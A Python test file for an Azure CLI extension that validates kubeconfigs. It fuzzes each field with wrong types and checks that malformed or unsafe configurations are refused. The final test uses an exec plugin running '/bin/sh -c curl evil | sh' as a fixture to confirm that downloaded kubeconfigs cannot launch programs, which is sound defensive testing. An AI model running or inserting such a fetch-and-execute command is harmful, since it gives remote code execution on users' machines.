"""Kubeconfigs of the wrong shape: every field of the selected context replaced by every wrong type gives a
one-line argument error (exit 2) or works, never another exception; and what kubectl would refuse is refused
before any network I/O."""

import base64
import copy
import os

import pytest
from azure.cli.core.azclierror import AzCLIError

from azext_kmsverify.errors import exit_code
from azext_kmsverify.auth import kubeconfig as kc
from azext_kmsverify.auth.entra import sign_in

CA = base64.b64encode(b'-----BEGIN CERTIFICATE-----\nnot really\n-----END CERTIFICATE-----\n').decode()
BASE = {
    'apiVersion': 'v1', 'kind': 'Config', 'current-context': 'ctx',
    'contexts': [{'name': 'other', 'context': {'cluster': 'nope', 'user': 'nope'}},
                 {'name': 'ctx', 'context': {'cluster': 'c', 'user': 'u', 'namespace': 'default'}}],
    'clusters': [{'name': 'c', 'cluster': {'server': 'https://127.0.0.1:6443', 'certificate-authority-data': CA,
                                           'insecure-skip-tls-verify': False, 'tls-server-name': 'kubernetes'}}],
    'users': [{'name': 'u', 'user': {'token': 'abc', 'client-certificate-data': CA, 'client-key-data': CA,
                                     'exec': {'command': 'kubelogin', 'args': ['get-token'],
                                              'env': [{'name': 'A', 'value': 'b'}], 'apiVersion': 'v1beta1'}}}],
}
WRONG = ['text', 7, 3.5, True, [], ['a', 1], {}, {'x': {'y': [1]}}, None]


def _paths(node, prefix=()):
    """Every (path) of the selected context's pieces: entries, bodies and each field in them."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield prefix + (key,)
            yield from _paths(value, prefix + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield prefix + (index,)
            yield from _paths(value, prefix + (index,))


def _set(config, path, value):
    target = config
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = value


def _outcome(config):
    try:
        resolved = kc.resolve(config, None, source="--kubeconfig 'k'", base_dir='/nonexistent')
    except AzCLIError as error:
        assert exit_code(error) == 2, error.error_msg
        assert '\n' not in error.error_msg
        return 'refused'
    assert isinstance(resolved.server, str) and resolved.server
    # What survives the check goes through the kubernetes client's loader: it may refuse (exit 2), not crash.
    from azext_kmsverify.auth.memfiles import MemoryFiles
    from azext_kmsverify.kube.compat import load
    with MemoryFiles() as files:
        try:
            load(resolved, files.add)
        except AzCLIError as error:
            assert exit_code(error) == 2, error.error_msg
            return 'refused by the loader'
    return 'accepted'


CASES = [(p, w) for p in _paths(BASE) for w in WRONG]


@pytest.mark.parametrize('path,wrong', CASES, ids=[f'{"/".join(map(str, p))}={type(w).__name__}' for p, w in CASES])
def test_every_field_of_every_wrong_type(path, wrong):
    config = copy.deepcopy(BASE)
    _set(config, path, wrong)
    _outcome(config)


@pytest.mark.parametrize('mutate, message', [
    (lambda c: c['clusters'][0]['cluster'].pop('server'), 'has no server'),
    (lambda c: c['clusters'][0]['cluster'].update(server=6443), 'server is not a string'),
    (lambda c: c['clusters'][0]['cluster'].update(server='https://[::1'), 'not a valid URL'),
    (lambda c: c['clusters'][0]['cluster'].update(server='127.0.0.1:6443'), 'https:// URL with a host'),
    (lambda c: c['clusters'][0]['cluster'].update(server='https://host:port'), 'not a valid URL'),
    (lambda c: c.update({'current-context': ['ctx']}), 'current-context is not a string'),
    (lambda c: c['users'].__setitem__(0, 'u'), "names user 'u', which is not there"),
    (lambda c: c['contexts'][1].pop('context'), 'names no cluster'),
    (lambda c: c['users'][0]['user'].update({'client-key-data': 42}), 'client-key-data is not a string'),
    (lambda c: c['users'][0]['user'].update({'client-key-data': '!!!not base64'}), 'not base64'),
    (lambda c: c['users'][0]['user'].update({'auth-provider': {'name': 'gcp'}}), "auth-provider 'gcp'"),
    (lambda c: c['users'][0]['user'].update({'auth-provider': {'name': 'oidc', 'config': {}}}), "'oidc'"),
    (lambda c: c['clusters'][0]['cluster'].update({'certificate-authority': 'ca.crt'}), 'does not exist'),
    (lambda c: c['clusters'][0]['cluster'].update({'proxy-url': 'socks5://127.0.0.1:1080'}), 'SOCKS'),
])
def test_what_kubectl_refuses_is_one_line(mutate, message):
    config = copy.deepcopy(BASE)
    mutate(config)
    with pytest.raises(AzCLIError) as info:
        kc.resolve(config, None, source="--kubeconfig 'k'", base_dir='/nonexistent')
    assert message in info.value.error_msg
    assert exit_code(info.value) == 2


def test_a_relative_path_resolves_against_the_kubeconfig_folder(tmp_path):
    (tmp_path / 'ca.crt').write_text('x')
    config = copy.deepcopy(BASE)
    config['clusters'][0]['cluster']['certificate-authority'] = 'ca.crt'
    resolved = kc.resolve(config, None, source='k', base_dir=str(tmp_path))
    assert resolved.cluster['certificate-authority'] == os.path.join(str(tmp_path), 'ca.crt')
    config['clusters'][0]['cluster']['certificate-authority'] = 'ca.crt'
    with pytest.raises(AzCLIError, match='relative path'):
        kc.resolve(config, None, source=kc.AZURE_SOURCE, from_azure=True)


def test_only_the_selected_context_is_checked():
    config = copy.deepcopy(BASE)
    config['users'].append('garbage')
    config['clusters'].append({'name': 'bad', 'cluster': {'server': 42}})
    assert _outcome(config) == 'accepted'


def test_deeply_nested_yaml_is_not_a_kubeconfig():
    assert kc.parse_kubeconfig('a: ' + '[' * 100000 + ']' * 100000) is None


def test_the_c_loader_reads_kubeconfigs_when_present(monkeypatch):
    import yaml
    seen = []
    real = yaml.load
    monkeypatch.setattr(yaml, 'load', lambda text, Loader: seen.append(Loader) or real(text, Loader=Loader))
    kc.parse_kubeconfig('clusters: []')
    assert seen == [getattr(yaml, 'CSafeLoader', yaml.SafeLoader)]


def test_an_exec_plugin_from_azure_other_than_kubelogin_is_refused():
    config = copy.deepcopy(BASE)
    config['users'][0]['user'] = {'exec': {'command': '/bin/sh', 'args': ['-c', 'curl evil | sh']}}
    resolved = kc.resolve(config, None, source=kc.AZURE_SOURCE, from_azure=True)
    with pytest.raises(AzCLIError, match='runs no program named by a downloaded kubeconfig'):
        sign_in(None, resolved)
    mine = kc.resolve(config, None, source="--kubeconfig 'k'")
    assert sign_in(None, mine)[0] is mine  # the user chose the file, as with kubectl
